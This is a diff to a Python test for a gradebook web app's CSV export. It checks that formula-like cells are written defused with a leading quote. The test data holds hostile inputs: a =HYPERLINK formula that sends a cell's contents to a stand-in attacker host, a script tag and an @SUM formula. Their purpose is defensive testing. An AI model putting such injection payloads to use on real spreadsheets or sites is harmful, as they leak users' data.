@@ -315,9 +315,14 @@ def test_the_csv_file(course, graded):
         status, _, cookie = login(server, course.instructor)
         session = cookie, form_csrf(call("GET", server.url + "/instructor/", headers={"Cookie": cookie})[2])
         assert _review(server, session, "alice", REVIEWED)[0] == 303
-        row = 'alice,-2,"x; =HYPERLINK(""http://evil.example/?""&A1,""marks"") <script>document.title=""ran""</script>"'
-        row += ',Prof. Li,"a|@SUM(1); <b id=""markup"">bold</b>\n=2+2"\r\n'
-        assert file.read_bytes().decode("utf-8") == ORIGINAL_CSV + row
+        # the file is a CSV a spreadsheet opens too: its text cells are written defused, as the gradebook's are
+        row = (
+            'alice,-2,"x; \'=HYPERLINK(""http://evil.example/?""&A1,""marks"") <script>document.title=""ran""</script>"'
+        )
+        row += ',Prof. Li,"a|\'@SUM(1); <b id=""markup"">bold</b>\n\'=2+2"\r\n'
+        written = file.read_bytes().decode("utf-8")
+        assert written == ORIGINAL_CSV + row
+        assert _formula_cells(written.removeprefix("\ufeff"), numbers=("points",)) == []
         served = _csv(server, course, "gradebook.csv")
         alice = _rows(served, "student_id")["alice"]
         assert [alice[c] for c in ("total", "before_review", "adjustment", "reviewed_by")] == [
